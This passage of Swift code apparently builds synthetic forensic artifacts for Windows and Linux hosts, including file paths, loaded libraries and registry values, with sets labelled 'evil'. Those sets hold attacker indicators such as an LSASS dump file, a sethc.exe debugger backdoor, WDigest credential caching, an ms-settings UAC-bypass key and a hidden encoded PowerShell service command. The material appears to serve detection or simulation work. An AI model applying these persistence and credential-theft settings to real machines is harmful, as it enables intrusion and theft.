                "letsencrypt": [("/etc/letsencrypt/live/acme.io", ["fullchain.pem", "privkey.pem"]), ("/var/log/letsencrypt", ["letsencrypt.log"])],
            ]
        }

        static func windowsFiles() -> [String: [(String, [String])]] {
            [
                "wintemp": [(#"{home}\AppData\Local\Temp"#, ["tmp{H}.tmp", "__PSScriptPolicyTest_{h}.ps1", "{h}.log"]),
                            (#"C:\Windows\Temp"#, ["MpCmdRun.log", "msi{h}.LOG", "tmp{H}.tmp"])],
                "userdocs": [(#"{home}\Documents"#, ["Q3 Report.docx", "~$Q3 Report.docx", "budget_2026.xlsx", "Präsentation Q3.pptx", "notes.txt"]),
                             (#"{home}\Downloads"#, ["invoice_{n}.pdf", "ChromeSetup.exe", "Zoom_cm_{h}.exe", "data_export.csv"]),
                             (#"{home}\Desktop"#, ["todo.txt", "Screenshot {n}.png"])],
                "chromecache": [(#"{home}\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data"#, ["f_{h}", "data_1", "data_3", "index"]),
                                (#"{home}\AppData\Local\Google\Chrome\User Data\Default"#, ["History", "History-journal", "Preferences", "Web Data"]),
                                (#"{home}\AppData\Local\Google\Chrome\User Data\Default\Network"#, ["Cookies", "Cookies-journal"])],
                "edgecache": [(#"{home}\AppData\Local\Microsoft\Edge\User Data\Default\Cache\Cache_Data"#, ["f_{h}", "data_1", "index"]),
                              (#"{home}\AppData\Local\Microsoft\Edge\User Data\Default"#, ["History", "Preferences"])],
                "office": [(#"{home}\AppData\Roaming\Microsoft\Office\Recent"#, ["index.dat", "Q3 Report.LNK"]),
                           (#"{home}\AppData\Local\Microsoft\Office\16.0\OfficeFileCache"#, ["FSD-{H}.FSD", "CentralTable.accdb"]),
                           (#"{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\5QJ8Z1XK"#, ["invoice_{n}.pdf", "Q3 Report.docx", "image001.png"])],
                "onedrive": [(#"{home}\OneDrive - Acme Corp\Documents"#, ["Q3 Report.docx", "Meeting Notes.one"]),
                             (#"{home}\AppData\Local\Microsoft\OneDrive\logs\Business1"#, ["SyncDiagnostics.log", "ClientPolicy.ini"])],
                "sysroot": [(#"C:\Windows\Prefetch"#, ["CMD.EXE-{H}.pf", "POWERSHELL.EXE-{H}.pf", "CHROME.EXE-{H}.pf", "SVCHOST.EXE-{H}.pf"]),
                            (#"C:\Windows\System32\LogFiles\WMI"#, ["Wifi.etl", "LwtNetLog.etl"]),
                            (#"C:\Windows\System32\config"#, ["SOFTWARE.LOG1", "SYSTEM.LOG1"])],
                "evtx": [(#"C:\Windows\System32\winevt\Logs"#, ["Security.evtx", "System.evtx", "Application.evtx",
                                                                 "Microsoft-Windows-PowerShell%4Operational.evtx"])],
                "defender": [(#"C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service"#, ["DetectionHistory", "History.Log"]),
                             (#"C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{5D8A1B2C-3E4F-5A6B-7C8D-9E0F1A2B3C4D}"#,
                              ["mpavbase.vdm", "mpasdlta.vdm"]),
                             (#"C:\ProgramData\Microsoft\Windows Defender\Scans"#, ["mpcache-{H}.bin"])],
                "winupdate": [(#"C:\Windows\SoftwareDistribution\Download\9d2a4f1c8b7e6d5c4b3a29f8e7d6c5b4"#, ["windows11.0-kb5044284-x64.cab", "express.cab"]),
                              (#"C:\Windows\SoftwareDistribution\DataStore\Logs"#, ["edb.log", "edbtmp.log"]),
                              (#"C:\Windows\Logs\CBS"#, ["CBS.log"])],
                "spool": [(#"C:\Windows\System32\spool\PRINTERS"#, ["FP{n}.SPL", "{n}.SHD", "{n}.SPL"])],
                "elasticw": [(#"C:\Program Files\Elastic\Endpoint\state\log"#, ["endpoint-000001.log"]),
                             (#"C:\Program Files\Elastic\Endpoint\cache"#, ["cache.db", "cache.db-wal"])],
                "iis": [(#"C:\inetpub\logs\LogFiles\W3SVC1"#, ["u_ex261123.log", "u_ex261124.log"]),
                        (#"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\1f2e3d4c\5b6a7980"#,
                         ["App_Web_{h}.dll", "{h}.cmdline", "{h}.0.cs"])],
                "mssql": [(#"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\DATA"#, ["orders.mdf", "orders_log.ldf", "tempdb.mdf", "templog.ldf"]),
                          (#"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Log"#, ["ERRORLOG", "log_{n}.trc"])],
                "evilwin": [(#"C:\Users\Public"#, ["a.exe", "update.exe", "enc.txt"]), (#"C:\Windows\Temp"#, ["lsass.dmp"]),
                            (#"C:\ProgramData\Updater"#, ["version.dll", "Updater.exe"]),
                            (#"{home}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup"#, ["update.lnk"]),
                            (#"{home}\AppData\Local\Temp"#, ["inv.exe", "a.ps1"])],
                "dns": [(#"C:\Windows\System32\dns"#, ["dns.log", "corp.acme.local.dns"])],
                "ntds": [(#"C:\Windows\NTDS"#, ["ntds.dit", "edb.log", "edb.chk"]),
                         (#"C:\Windows\SYSVOL\domain\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\MACHINE\Microsoft\Windows NT\SecEdit"#, ["GptTmpl.inf"])],
                "code": [(#"{home}\source\repos\inventory-api"#, ["Program.cs", "appsettings.json", "inventory-api.csproj"]),
                         (#"{home}\source\repos\inventory-api\.git"#, ["index", "FETCH_HEAD"]),
                         (#"{home}\AppData\Roaming\Code\User"#, ["settings.json"])],
            ]
        }

        /// (specific libraries, generic pool), as full paths.
        static func linuxLibs() -> ([String], [String]) {
            let lib = "/usr/lib/x86_64-linux-gnu/"
            let generic = ["libc.so.6", "libm.so.6", "libpthread.so.0", "libdl.so.2", "libz.so.1", "libselinux.so.1", "libpcre2-8.so.0",
                           "libtinfo.so.6", "libnss_files.so.2", "libnss_systemd.so.2", "libgcc_s.so.1", "libstdc++.so.6", "libresolv.so.2",
                           "libcap.so.2", "liblzma.so.5", "libzstd.so.1", "libcrypt.so.1", "libaudit.so.1"].map { lib + $0 }
                + ["/lib64/ld-linux-x86-64.so.2"]
            let specific = ["libssl.so.3", "libcrypto.so.3", "libcurl.so.4", "libnghttp2.so.14", "libpam.so.0", "libwrap.so.0",
                            "libsystemd.so.0", "libseccomp.so.2", "libmount.so.1", "libpython3.10.so.1.0", "libffi.so.8", "libpq.so.5",
                            "libldap-2.5.so.0", "libxml2.so.2", "libgssapi_krb5.so.2", "libnode.so.109"].map { lib + $0 }
                + ["/usr/lib/systemd/libsystemd-shared-249.so", "/usr/lib/python3.10/lib-dynload/_ssl.cpython-310-x86_64-linux-gnu.so",
                   "/usr/lib/jvm/java-17-openjdk-amd64/lib/server/libjvm.so", "/usr/local/lib/libprocesshider.so", "/dev/shm/.x/libx.so"]
            return (specific, generic)
        }

        static func windowsLibs() -> ([String], [String]) {
            let sys = #"C:\Windows\System32\"#
            let generic = ["ntdll.dll", "kernel32.dll", "KernelBase.dll", "user32.dll", "win32u.dll", "gdi32.dll", "gdi32full.dll",
                           "msvcp_win.dll", "ucrtbase.dll", "advapi32.dll", "msvcrt.dll", "sechost.dll", "rpcrt4.dll", "combase.dll",
                           "ole32.dll", "oleaut32.dll", "shell32.dll", "shlwapi.dll", "ws2_32.dll", "crypt32.dll", "bcrypt.dll",
                           "bcryptprimitives.dll", "CRYPTBASE.DLL", "version.dll", "winhttp.dll", "wininet.dll", "dnsapi.dll", "IPHLPAPI.DLL",
                           "secur32.dll", "SspiCli.dll", "netapi32.dll", "userenv.dll", "profapi.dll", "uxtheme.dll", "dwmapi.dll",
                           "imm32.dll", "kernel.appcore.dll", "cfgmgr32.dll", "powrprof.dll", "msctf.dll", "clbcatq.dll", "mswsock.dll",
                           "nsi.dll", "wintypes.dll"].map { sys + $0 }
            let net = #"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\"#
            let specific = ["windows.storage.dll", "explorerframe.dll", "mscoree.dll", "amsi.dll", "lsasrv.dll", "kerberos.dll",
                            "msv1_0.dll", "samsrv.dll", "ntdsa.dll", "samlib.dll", "vaultcli.dll", "comsvcs.dll", "scrobj.dll", "dbghelp.dll",
                            "dbgcore.dll"].map { sys + $0 }
                + [net + "clr.dll", net + "mscoreei.dll", net + "clrjit.dll", net + "webengine4.dll", sys + #"inetsrv\iiscore.dll"#,
                   #"C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\5a3f2e1d0c9b8a7f6e5d4c3b2a190817\System.Management.Automation.ni.dll"#,
                   #"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpOav.dll"#,
                   #"C:\Program Files\Google\Chrome\Application\130.0.6723.92\chrome.dll"#,
                   #"C:\Program Files\Google\Chrome\Application\130.0.6723.92\chrome_elf.dll"#,
                   #"C:\Program Files (x86)\Microsoft\Edge\Application\130.0.2849.68\msedge.dll"#,
                   #"C:\Program Files\Common Files\Microsoft Shared\Office16\mso20win32client.dll"#,
                   #"C:\Program Files\Microsoft Office\root\Office16\mso.dll"#,
                   #"C:\Program Files\Microsoft Office\root\Office16\WWLIB.DLL"#,
                   #"C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL"#]
            return (specific, generic)
        }

        struct Reg {
            var hive: String
            var key: String
            var value: String
            var type: String
            var data: String
        }

        static func registry() -> (generic: [Reg], run: [Reg], evil: [Reg]) {
            let sid = "S-1-5-21-1004336348-1177238915-682003330-1104"
            let generic = [
                Reg(hive: "HKLM", key: #"SYSTEM\ControlSet001\Services\bam\State\UserSettings\"# + sid, value: #"\Device\HarddiskVolume3\Windows\System32\cmd.exe"#,
                    type: "REG_BINARY", data: "a1f3c2d40b27db0100000000"),
                Reg(hive: "HKLM", key: #"SOFTWARE\Microsoft\Windows Defender\Signature Updates"#, value: "AVSignatureVersion", type: "REG_SZ", data: "1.421.112.0"),
                Reg(hive: "HKLM", key: #"SYSTEM\ControlSet001\Services\Tcpip\Parameters\Interfaces\{6c1f2a3b-4d5e-4f60-8a9b-0c1d2e3f4a5b}"#,
                    value: "DhcpIPAddress", type: "REG_SZ", data: "10.30.4.17"),
                Reg(hive: "HKLM", key: #"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"#, value: "AutoRestartShell", type: "REG_DWORD", data: "1"),
                Reg(hive: "HKU", key: sid + #"\Software\Microsoft\Windows\CurrentVersion\Explorer\Shell Folders"#, value: "Desktop",
                    type: "REG_SZ", data: #"C:\Users\j.smith\Desktop"#),
                Reg(hive: "HKU", key: sid + #"\Software\Microsoft\Windows\CurrentVersion\Internet Settings"#, value: "ProxyEnable", type: "REG_DWORD", data: "0"),
                Reg(hive: "HKU", key: sid + #"\Software\Microsoft\Windows\CurrentVersion\Explorer\TypedPaths"#, value: "url1", type: "REG_SZ",
                    data: #"\\fs01\finance"#),
                Reg(hive: "HKLM", key: #"SOFTWARE\Microsoft\Windows\CurrentVersion\WindowsUpdate\Auto Update\Results\Detect"#, value: "LastSuccessTime",
                    type: "REG_SZ", data: "2026-11-23 09:12:44"),
                Reg(hive: "HKLM", key: #"SYSTEM\ControlSet001\Services\W32Time\Config"#, value: "LastKnownGoodTime", type: "REG_QWORD", data: "134083027200000000"),
                Reg(hive: "HKU", key: sid + #"\Software\Microsoft\Office\16.0\Common\Roaming\Identities"#, value: "ADUserName", type: "REG_SZ",
                    data: "j.smith@acme.com"),
                Reg(hive: "HKLM", key: #"SOFTWARE\Policies\Microsoft\Windows\DataCollection"#, value: "AllowTelemetry", type: "REG_DWORD", data: "1"),
                Reg(hive: "HKU", key: sid + #"\Software\Google\Chrome\PreferenceMACs\Default"#, value: "homepage", type: "REG_SZ",
                    data: "5F3C2A1B0E9D8C7B6A5F4E3D2C1B0A99"),
                Reg(hive: "HKLM", key: #"SYSTEM\ControlSet001\Control\Session Manager\Memory Management\PrefetchParameters"#, value: "EnablePrefetcher",
                    type: "REG_DWORD", data: "3"),
                Reg(hive: "HKLM", key: #"SOFTWARE\Microsoft\Windows NT\CurrentVersion\NetworkList\Profiles\{8A1B2C3D-4E5F-6A7B-8C9D-0E1F2A3B4C5D}"#,
                    value: "ProfileName", type: "REG_SZ", data: "corp.acme.local"),
            ]
            let run = [
                Reg(hive: "HKU", key: sid + #"\Software\Microsoft\Windows\CurrentVersion\Run"#, value: "OneDrive", type: "REG_SZ",
                    data: #""C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background"#),
                Reg(hive: "HKLM", key: #"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"#, value: "SecurityHealth", type: "REG_EXPAND_SZ",
                    data: #"%windir%\system32\SecurityHealthSystray.exe"#),
                Reg(hive: "HKU", key: sid + #"\Software\Microsoft\Windows\CurrentVersion\Run"#, value: "com.squirrel.Teams.Teams", type: "REG_SZ",
                    data: #"C:\Users\j.smith\AppData\Local\Microsoft\Teams\Update.exe --processStart "Teams.exe" --process-start-args "--system-initiated""#),
            ]
            let evil = [
                Reg(hive: "HKU", key: sid + #"\Software\Microsoft\Windows\CurrentVersion\Run"#, value: "Updater", type: "REG_SZ",
                    data: #"C:\Users\Public\update.exe"#),
                Reg(hive: "HKLM", key: #"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe"#, value: "Debugger",
                    type: "REG_SZ", data: #"C:\Windows\System32\cmd.exe"#),
                Reg(hive: "HKLM", key: #"SYSTEM\CurrentControlSet\Services\WinDefendUpd"#, value: "ImagePath", type: "REG_EXPAND_SZ",
                    data: #"%COMSPEC% /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="#),
                Reg(hive: "HKLM", key: #"SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest"#, value: "UseLogonCredential",
                    type: "REG_DWORD", data: "1"),
                Reg(hive: "HKU", key: sid + #"\Software\Classes\ms-settings\Shell\Open\command"#, value: "DelegateExecute", type: "REG_SZ", data: ""),
            ]
            return (generic, run, evil)
        }
    }
}
